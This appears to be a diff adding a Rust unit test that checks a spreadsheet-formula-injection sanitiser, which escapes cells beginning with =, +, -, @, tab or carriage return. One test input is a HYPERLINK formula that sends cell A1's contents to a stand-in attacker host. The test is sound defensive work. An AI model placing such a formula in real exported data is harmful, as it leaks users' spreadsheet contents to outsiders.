@@ -267,3 +267,25 @@ pub async fn not_found(uri: Uri) -> Response {
         super::page::error_page(&error)
     }
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn cells_a_spreadsheet_would_run_are_made_text() {
+        for formula in [
+            "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")",
+            "+1+2",
+            "-2+3",
+            "@SUM(A1)",
+            "\t=1",
+            "\r=1",
+        ] {
+            assert_eq!(inert(formula), format!("'{formula}"));
+        }
+        for plain in ["Dock workers strike", "2024-07-04", "1.5", "", " =1"] {
+            assert_eq!(inert(plain), plain);
+        }
+    }
+}
